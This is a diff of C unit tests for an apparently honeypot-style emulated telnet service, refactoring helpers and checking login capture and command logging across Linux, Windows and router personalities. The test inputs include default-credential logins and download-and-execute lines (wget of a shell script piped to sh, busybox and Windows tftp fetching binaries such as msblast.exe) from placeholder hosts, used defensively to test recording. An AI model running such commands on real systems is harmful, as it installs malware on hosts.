@@ -8,11 +8,7 @@
 #include "test_svc.h"
 
 static const char cfg[] =
-	"sensor {\n"
-	"	interface veth0\n"
-	"	limits { connections 64; payload 1M }\n"
-	"	limit idle 10s\n"
-	"}\n"
+	S_SENSOR
 	"create lin\n"
 	"set lin personality \"Linux 2.6.32\"\n"
 	"add lin tcp port 23 internal \"telnet\"\n"
@@ -43,23 +39,8 @@ setup(void **state)
 	return h_new(state, cfg);
 }
 
-static void
-has(struct s_conn *c, const char *want)
-{
-	if (memmem(c->got, c->ngot, want, strlen(want)) == NULL)
-		fail_msg("no \"%s\" in \"%s\"", want, s_text(c));
-}
-
 /* Bytes that may hold NULs. */
 #define SEND(h, c, lit)	s_send((h), (c), (lit), sizeof(lit) - 1)
-
-static void
-say(struct harness *h, struct s_conn *c, const char *s, const char *want)
-{
-	s_reset_got(c);
-	s_sends(h, c, s);
-	has(c, want);
-}
 
 static void
 test_telnet_negotiates_options_once(void **state)
@@ -92,8 +73,8 @@ test_telnet_negotiates_options_once(void **state)
 	SEND(h, &c, IAC "\xfa\x18\x00xterm" IAC "\xf0" IAC "\xfa\x1f\x00"
 	    "\x50\x00\x18" IAC "\xf0" IAC "\xfa\x05" IAC IAC "x" IAC "\xf0");
 	/* We echo, the client does not. */
-	say(h, &c, "root\r\n", "root\r\nPassword: ");
-	say(h, &c, "hunter2\r\n", "root@lin:~# ");
+	s_say(h, &c, "root\r\n", "root\r\nPassword: ");
+	s_say(h, &c, "hunter2\r\n", "root@lin:~# ");
 	assert_field(s_svc_ev(h, "login", 0), "user", "root");
 	assert_field(s_svc_ev(h, "login", 0), "password", "hunter2");
 	assert_field(s_svc_ev(h, "login", 0), "term", "xterm");
@@ -102,7 +83,7 @@ test_telnet_negotiates_options_once(void **state)
 	s_reset_got(&c);
 	s_sends(h, &c, IAC DONT "\x01");
 	assert_memory_equal(c.got, IAC WONT "\x01", 3);
-	say(h, &c, "whoami\r\n", "root\r\nroot@lin:~# ");
+	s_say(h, &c, "whoami\r\n", "root\r\nroot@lin:~# ");
 }
 
 static void
@@ -115,12 +96,12 @@ test_telnet_shell_records_and_answers_commands(void **state)
 	s_open(h, &c, LIN, 41001, 2323);
 	/* login: no negotiation, no echo. */
 	assert_string_equal(s_text(&c), "Debian GNU/Linux 6.0\r\nlin login: ");
-	say(h, &c, "admin\r\n", "Password: ");
-	say(h, &c, "admin\r\n", "admin@lin:~$ ");
-	say(h, &c, "uname -a\r\n", "Linux lin 2.6.32-5-686 #1 SMP");
-	say(h, &c, "id\n", "uid=1000(admin) gid=1000(admin)");
-	say(h, &c, "cat /proc/cpuinfo\r\n", "model name\t: Intel");
-	say(h, &c, "cd /tmp; wget http://198.51.100.7/x.sh -O x.sh && sh x.sh"
+	s_say(h, &c, "admin\r\n", "Password: ");
+	s_say(h, &c, "admin\r\n", "admin@lin:~$ ");
+	s_say(h, &c, "uname -a\r\n", "Linux lin 2.6.32-5-686 #1 SMP");
+	s_say(h, &c, "id\n", "uid=1000(admin) gid=1000(admin)");
+	s_say(h, &c, "cat /proc/cpuinfo\r\n", "model name\t: Intel");
+	s_say(h, &c, "cd /tmp; wget http://198.51.100.7/x.sh -O x.sh && sh x.sh"
 	    "\r\n", "wget: unable to resolve host address");
 	e = s_svc_ev(h, "command", 4);
 	assert_string_equal(e->u.service.service, "login");
@@ -128,12 +109,12 @@ test_telnet_shell_records_and_answers_commands(void **state)
 	assert_field(e, "url", "http://198.51.100.7/x.sh");
 	assert_field(e, "command", " wget http://198.51.100.7/x.sh -O x.sh ");
 	assert_field(s_svc_ev(h, "command", 5), "program", "sh");
-	say(h, &c, "/bin/busybox tftp -g -r bins.mips 198.51.100.8; "
+	s_say(h, &c, "/bin/busybox tftp -g -r bins.mips 198.51.100.8; "
 	    "curl -O example.org/a\r\n", "tftp: timeout");
 	assert_field(s_svc_ev(h, "command", 6), "url",
 	    "tftp://198.51.100.8/bins.mips");
 	assert_field(s_svc_ev(h, "command", 7), "url", "http://example.org/a");
-	say(h, &c, "nosuch\r\n", "-bash: nosuch: command not found");
+	s_say(h, &c, "nosuch\r\n", "-bash: nosuch: command not found");
 	s_reset_got(&c);
 	s_sends(h, &c, "exit\r\n");
 	assert_int_equal(c.fin, 1);
@@ -147,11 +128,11 @@ test_telnet_windows_and_router_flavours(void **state)
 	struct s_conn c;
 
 	s_open(h, &c, WIN, 41002, 23);
-	has(&c, "Welcome to Microsoft Telnet Service \r\n\r\nlogin: ");
-	say(h, &c, "Administrator\r\n", "password: ");
-	say(h, &c, "\r\n", "C:\\Documents and Settings\\Administrator>");
-	say(h, &c, "ver\r\n", "Microsoft Windows 2000 [Version 5.00.2195]");
-	say(h, &c, "tftp -i 192.0.2.9 GET msblast.exe\r\n",
+	s_assert_has(&c, "Welcome to Microsoft Telnet Service \r\n\r\nlogin: ");
+	s_say(h, &c, "Administrator\r\n", "password: ");
+	s_say(h, &c, "\r\n", "C:\\Documents and Settings\\Administrator>");
+	s_say(h, &c, "ver\r\n", "Microsoft Windows 2000 [Version 5.00.2195]");
+	s_say(h, &c, "tftp -i 192.0.2.9 GET msblast.exe\r\n",
 	    "Connect request failed");
 	assert_field(s_svc_ev(h, "command", 1), "url",
 	    "tftp://192.0.2.9/msblast.exe");
@@ -159,10 +140,10 @@ test_telnet_windows_and_router_flavours(void **state)
 	s_open(h, &c, RTR, 41003, 23);
 	assert_string_equal(s_text(&c), "\r\n\r\nUser Access Verification\r\n"
 	    "\r\nUsername: ");
-	say(h, &c, "cisco\r\n", "Password: ");
-	say(h, &c, "cisco\r\n", "rtr>");
-	say(h, &c, "show version\r\n", "IOS (tm) C2600 Software");
-	say(h, &c, "foo\r\n", "% Unknown command");
+	s_say(h, &c, "cisco\r\n", "Password: ");
+	s_say(h, &c, "cisco\r\n", "rtr>");
+	s_say(h, &c, "show version\r\n", "IOS (tm) C2600 Software");
+	s_say(h, &c, "foo\r\n", "% Unknown command");
 }
 
 static void
@@ -174,7 +155,7 @@ test_telnet_line_editing_and_bounds(void **state)
 
 	s_open(h, &c, LIN, 41004, 2323);
 	/* Backspace, CR NUL, and an IAC IAC that is a 0xff in the text. */
-	say(h, &c, "roox\x7ft\r", "Password: ");
+	s_say(h, &c, "roox\x7ft\r", "Password: ");
 	SEND(h, &c, "\0pw" IAC IAC "\r\n");
 	assert_field(s_svc_ev(h, "login", 0), "user", "root");
 	assert_field(s_svc_ev(h, "login", 0), "password", "pw\xef\xbf\xbd");
@@ -182,7 +163,7 @@ test_telnet_line_editing_and_bounds(void **state)
 	memset(big, 'a', sizeof(big));
 	s_send(h, &c, big, 1400);
 	s_send(h, &c, big, sizeof(big) - 1400);
-	say(h, &c, "\r\n", "command not found");
+	s_say(h, &c, "\r\n", "command not found");
 	/* A subnegotiation that never ends stays bounded. */
 	s_sends(h, &c, IAC "\xfa\x18");
 	s_send(h, &c, big, 1400);
